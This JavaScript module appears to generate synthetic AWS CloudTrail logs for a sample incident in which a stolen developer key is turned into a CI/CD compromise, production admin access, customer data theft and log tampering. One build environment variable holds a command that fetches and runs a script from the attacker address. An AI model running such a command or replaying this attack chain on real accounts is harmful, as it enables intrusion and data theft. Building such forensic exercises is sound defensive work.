/** What is to be found in the sample case? One night, one stolen key, a release chain turned into a way in. */
import {
  HOME,
  PROD,
  TOOLS,
  awsService,
  gitPush,
  iamUser,
  record,
  roleSession,
  uniqueId,
  uuid,
} from './records.mjs'
import { FIRST_DAY } from './everyday.mjs'

export const ATTACKER = '203.0.113.77'
export const SECOND_ADDRESS = '2001:db8:7a::17'
const KALI =
  'aws-cli/2.15.38 md/Botocore#2.4.5 ua/2.0 os/linux#6.6.9-amd64 md/distrib#kali lang/python#3.11.9'
const START = FIRST_DAY + 2 * 86_400 + 2 * 3600 + 11 * 60
const REPOSITORY = 'payments-service'
const COMMIT = '7f1c0de5a11bad5eed0ff1ce0badc0ffee15bad1'
const stolen = iamUser('developer-b')
const iso = (/** @type {number} */ at) => new Date(at * 1000).toISOString().replace('.000Z', 'Z')

/** @returns {import('./records.mjs').CloudTrailRecord[]} */
export function attack() {
  return [...lookAround(), ...intoTheSource(), ...intoTheBuild(), ...intoProduction(), ...coverTracks()]
}

/** @param {number} after @param {string} name @param {object} more */
const byThief = (after, name, more) =>
  record({
    at: START + after,
    name: `attack/${name}`,
    who: stolen,
    ip: ATTACKER,
    agent: KALI,
    readOnly: true,
    .../** @type {any} */ (more),
  })

function lookAround() {
  const denied = (/** @type {number} */ after, /** @type {string} */ service, /** @type {string} */ action) =>
    byThief(after, action, {
      service,
      action,
      more: {
        errorCode: 'AccessDenied',
        errorMessage: `User: ${stolen.arn} is not authorized to perform: ${service}:${action} because no identity-based policy allows the ${service}:${action} action`,
      },
    })
  return [
    byThief(0, 'GetCallerIdentity', { service: 'sts', action: 'GetCallerIdentity' }),
    denied(9, 'iam', 'ListUsers'),
    denied(12, 'iam', 'ListRoles'),
    denied(15, 'iam', 'GetAccountAuthorizationDetails'),
    denied(21, 'organizations', 'DescribeOrganization'),
    denied(27, 'secretsmanager', 'ListSecrets'),
    denied(31, 's3', 'ListBuckets'),
    byThief(44, 'ListRepositories', { service: 'codecommit', action: 'ListRepositories' }),
    byThief(51, 'ListPipelines', { service: 'codepipeline', action: 'ListPipelines', request: {} }),
    byThief(58, 'GetPipeline', { service: 'codepipeline', action: 'GetPipeline', request: { name: 'payments-release' } }),
    byThief(66, 'BatchGetProjects', { service: 'codebuild', action: 'BatchGetProjects', request: { names: ['payments-build'] } }),
    record({
      at: START + 95, name: 'attack/login', who: { type: 'IAMUser', principalId: stolen.principalId, accountId: TOOLS, accessKeyId: '', userName: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
      service: 'signin', action: 'ConsoleLogin', ip: ATTACKER, agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0', readOnly: false, region: 'us-east-1',
      response: { ConsoleLogin: 'Failure' }, more: { errorMessage: 'Failed authentication', eventType: 'AwsConsoleSignIn', additionalEventData: { MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/' } },
    }),
  ] // prettier-ignore
}

function intoTheSource() {
  const pull = (
    /** @type {number} */ after,
    /** @type {number} */ step,
    /** @type {boolean} */ dataTransferred,
  ) =>
    byThief(after, `pull/${step}`, {
      service: 'codecommit',
      action: 'GitPull',
      agent: 'git/2.43.0',
      more: {
        requestID: uuid('attack/pull/request'),
        additionalEventData: {
          protocol: 'HTTP',
          dataTransferred,
          repositoryName: REPOSITORY,
          repositoryId: uuid(`repository/${REPOSITORY}`),
        },
      },
    })
  return [
    pull(160, 1, false),
    pull(161, 2, true),
    byThief(170, 'decrypt', { service: 'kms', action: 'Decrypt', ip: 'codecommit.amazonaws.com', agent: 'codecommit.amazonaws.com', request: { encryptionContext: { 'aws:codecommit:id': uuid(`repository/${REPOSITORY}`) } } }),
    ...gitPush({ at: START + 640, name: 'attack/push', who: stolen, ip: ATTACKER, agent: 'git/2.43.0', repository: REPOSITORY, ref: 'refs/heads/main', commit: COMMIT }),
    byThief(700, 'UpdatePipeline', {
      service: 'codepipeline', action: 'UpdatePipeline', readOnly: false,
      request: { pipeline: { name: 'payments-release', version: 14, stages: [{ name: 'Source' }, { name: 'Build' }, { name: 'Deploy' }] } },
      response: { pipeline: { name: 'payments-release', version: 15, stages: [{ name: 'Source' }, { name: 'Build' }, { name: 'Deploy' }] } },
    }),
    byThief(720, 'UpdateProject', {
      service: 'codebuild', action: 'UpdateProject', readOnly: false,
      request: { name: 'payments-build', environment: { type: 'LINUX_CONTAINER', privilegedMode: true, environmentVariables: [{ name: 'POST_BUILD', value: 'curl -s https://203.0.113.77/p.sh | sh', type: 'PLAINTEXT' }] } },
      response: { project: { name: 'payments-build', arn: `arn:aws:codebuild:${HOME}:${TOOLS}:project/payments-build` } },
    }),
    byThief(731, 'StartPipelineExecution', { service: 'codepipeline', action: 'StartPipelineExecution', readOnly: false, request: { name: 'payments-release' }, response: { pipelineExecutionId: uuid('attack/execution') } }),
  ] // prettier-ignore
}

const created = iso(START + 790)
const build = roleSession({
  role: 'payments-build',
  session: `AWSCodeBuild-${uuid('attack/build')}`,
  created,
})

function intoTheBuild() {
  const byBuild = (/** @type {number} */ after, /** @type {string} */ name, /** @type {object} */ more) =>
    record({
      at: START + after,
      name: `attack/${name}`,
      who: build,
      ip: '192.0.2.200',
      agent: 'aws-cli/2.15.0 exec-env/AWS_ECS_FARGATE',
      readOnly: true,
      .../** @type {any} */ (more),
    })
  const pipeline = roleSession({
    role: 'payments-pipeline',
    session: '1715652600000',
    created,
    invokedBy: 'codepipeline.amazonaws.com',
  })
  return [
    record({ at: START + 780, name: 'attack/StartBuild', who: pipeline, service: 'codebuild', action: 'StartBuild', ip: 'codepipeline.amazonaws.com', agent: 'codepipeline.amazonaws.com', readOnly: false, request: { projectName: 'payments-build' }, response: { build: { id: `payments-build:${uuid('attack/build')}`, buildStatus: 'IN_PROGRESS' } } }),
    record({
      at: START + 790, name: 'attack/assume-build', who: awsService('codebuild.amazonaws.com'), service: 'sts', action: 'AssumeRole', ip: 'codebuild.amazonaws.com', agent: 'codebuild.amazonaws.com', readOnly: true,
      request: { roleArn: build.sessionContext.sessionIssuer.arn, roleSessionName: `AWSCodeBuild-${uuid('attack/build')}` },
      response: { credentials: { accessKeyId: build.accessKeyId, expiration: iso(START + 4390) }, assumedRoleUser: { assumedRoleId: build.principalId, arn: build.arn } },
      more: { sharedEventID: uuid('attack/assume-build/shared') },
    }),
    byBuild(860, 'GetSecretValue', { service: 'secretsmanager', action: 'GetSecretValue', request: { secretId: `arn:aws:secretsmanager:${HOME}:${TOOLS}:secret:production/payments-db` } }),
    byBuild(871, 'build-ListBuckets', { service: 's3', action: 'ListBuckets', request: { Host: 's3.amazonaws.com' } }),
    ...crossAccount(byBuild),
  ] // prettier-ignore
}

const deploy = roleSession({
  role: 'payments-deploy',
  session: 'release',
  account: PROD,
  created: iso(START + 900),
})

/** One AssumeRole as both accounts saw it: one sharedEventID, one requestID, two records. @param {Function} byBuild */
function crossAccount(byBuild) {
  const request = {
    roleArn: deploy.sessionContext.sessionIssuer.arn,
    roleSessionName: 'release',
    durationSeconds: 3600,
  }
  const response = {
    credentials: { accessKeyId: deploy.accessKeyId, expiration: iso(START + 4500) },
    assumedRoleUser: { assumedRoleId: deploy.principalId, arn: deploy.arn },
  }
  const ids = { sharedEventID: uuid('attack/cross/shared'), requestID: uuid('attack/cross/request') }
  const caller = { type: 'AWSAccount', principalId: build.principalId, accountId: TOOLS }
  return [
    byBuild(900, 'cross/tools', { service: 'sts', action: 'AssumeRole', request, response, more: ids }),
    record({
      at: START + 900,
      name: 'attack/cross/prod',
      who: caller,
      service: 'sts',
      action: 'AssumeRole',
      ip: '192.0.2.200',
      agent: 'aws-cli/2.15.0 exec-env/AWS_ECS_FARGATE',
      readOnly: true,
      account: PROD,
      request,
      response,
      more: { ...ids, resources: [{ accountId: PROD, type: 'AWS::IAM::Role', ARN: request.roleArn }] },
    }),
  ]
}

function intoProduction() {
  const byDeploy = (/** @type {number} */ after, /** @type {string} */ action, /** @type {object} */ more) =>
    record({
      at: START + after,
      name: `attack/prod/${action}`,
      who: deploy,
      action,
      ip: ATTACKER,
      agent: KALI,
      readOnly: false,
      account: PROD,
      service: 'iam',
      region: 'us-east-1',
      .../** @type {any} */ (more),
    })
  const user = 'support-sync'
  const key = uniqueId('AKIA', user)
  const planted = iamUser(user, PROD)
  const byPlanted = (/** @type {number} */ after, /** @type {string} */ action, /** @type {object} */ more) =>
    record({
      at: START + after,
      name: `attack/planted/${action}/${after}`,
      who: planted,
      action,
      ip: SECOND_ADDRESS,
      agent: 'Boto3/1.34.69 md/Botocore#1.34.69 os/linux',
      readOnly: true,
      account: PROD,
      service: 's3',
      .../** @type {any} */ (more),
    })
  return [
    byDeploy(1500, 'CreateUser', {
      request: { userName: user },
      response: { user: { userName: user, userId: planted.principalId, arn: planted.arn } },
    }),
    byDeploy(1507, 'AttachUserPolicy', {
      request: { userName: user, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
    }),
    byDeploy(1515, 'CreateAccessKey', {
      request: { userName: user },
      response: { accessKey: { accessKeyId: key, status: 'Active', userName: user } },
    }),
    byPlanted(2100, 'ListBuckets', { request: { Host: 's3.amazonaws.com' } }),
    ...Array.from({ length: 40 }, (_, i) =>
      byPlanted(2160 + i * 3, 'GetObject', {
        request: {
          bucketName: 'payments-exports',
          key: `2024/05/customers-${String(i).padStart(2, '0')}.csv.gz`,
          Host: 'payments-exports.s3.eu-west-1.amazonaws.com',
        },
        more: {
          managementEvent: false,
          eventCategory: 'Data',
          additionalEventData: { bytesTransferredOut: 5_242_880 + i * 4096, SignatureVersion: 'SigV4' },
          requestID: uniqueId('', `object/${i}`),
        },
      }),
    ),
    byPlanted(2400, 'ModifySnapshotAttribute', {
      service: 'ec2',
      readOnly: false,
      request: {
        snapshotId: 'snap-0f00dbabe15bad5ee',
        createVolumePermission: { add: { items: [{ userId: '777788889999' }] } },
        attributeType: 'CREATE_VOLUME_PERMISSION',
      },
      response: { _return: true },
    }),
    byPlanted(2440, 'AuthorizeSecurityGroupIngress', {
      service: 'ec2',
      readOnly: false,
      request: {
        groupId: 'sg-0badc0de15bad5eed',
        ipPermissions: {
          items: [
            { ipProtocol: 'tcp', fromPort: 22, toPort: 22, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } },
          ],
        },
      },
      response: { _return: true },
    }),
  ]
}

function coverTracks() {
  const planted = iamUser('support-sync', PROD)
  const common = {
    who: planted,
    service: 'cloudtrail',
    ip: SECOND_ADDRESS,
    agent: 'Boto3/1.34.69 md/Botocore#1.34.69 os/linux',
    readOnly: false,
    account: PROD,
  }
  const trail = `arn:aws:cloudtrail:${HOME}:${PROD}:trail/org-trail`
  return [
    record({
      ...common,
      at: START + 2600,
      name: 'attack/StopLogging',
      action: 'StopLogging',
      request: { name: trail },
      more: {
        errorCode: 'InsufficientDependencyServiceAccessPermissionException',
        errorMessage: 'This organization trail can only be changed by the management account.',
      },
    }),
    record({
      ...common,
      at: START + 2615,
      name: 'attack/PutEventSelectors',
      action: 'PutEventSelectors',
      request: {
        trailName: 'prod-trail',
        eventSelectors: [{ readWriteType: 'WriteOnly', includeManagementEvents: true, dataResources: [] }],
      },
    }),
    byThief(2660, 'codestar', {
      service: 'codestar',
      action: 'AssociateTeamMember',
      readOnly: false,
      request: {
        projectId: 'payments',
        projectRole: 'Owner',
        userArn: stolen.arn,
        remoteAccessAllowed: true,
      },
    }),
    byThief(2700, 'DeleteBranch', {
      service: 'codecommit',
      action: 'DeleteBranch',
      readOnly: false,
      request: { repositoryName: REPOSITORY, branchName: 'hotfix-7' },
      response: { deletedBranch: { branchName: 'hotfix-7', commitId: COMMIT } },
    }),
  ]
}
